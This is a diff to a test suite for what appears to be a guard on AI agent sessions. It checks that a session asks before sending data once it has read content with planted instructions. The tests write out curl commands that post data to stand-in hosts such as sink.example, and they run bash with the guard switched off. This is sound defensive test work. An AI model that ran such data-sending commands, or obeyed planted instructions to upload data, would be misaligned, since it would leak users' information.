@@ -63,7 +63,7 @@ describe('what a session read and then sends', () => {
   const bash = (script: string): Promise<Finished> =>
     home.cli(['run', '--guard', 'off', '--', 'bash'], { input: `${script}\n` });
   const send = (host: string, data: string) =>
-    `curl -sS -m 5 --resolve ${host}:${port}:127.0.0.1 ${data} http://${host}:${port}/in`;
+    `curl -sS -m 5 --noproxy '*' --resolve ${host}:${port}:127.0.0.1 ${data} http://${host}:${port}/in`;
   const receipts = async () => (await home.cli(['export', '--out', '-'])).stdout;
 
   test('passes while nothing of it was read', async () => {
@@ -147,7 +147,8 @@ describe('a session that read content with planted instructions', () => {
     await home.startDaemon({ COUNTERSIGN_APPROVAL_MS: '1000', COUNTERSIGN_DEFERRAL_MS: '1000' });
   });
   after(() => home.dispose());
-  const upload = 'curl -sS -m 2 --resolve sink.example:9:127.0.0.1 -d hello http://sink.example:9/';
+  const upload =
+    'curl -sS -m 2 --noproxy "*" --resolve sink.example:9:127.0.0.1 -d hello http://sink.example:9/';
 
   test('asks before it sends, and says where the instructions were', async () => {
     const done = await home.cli(['run', '--', 'bash'], {
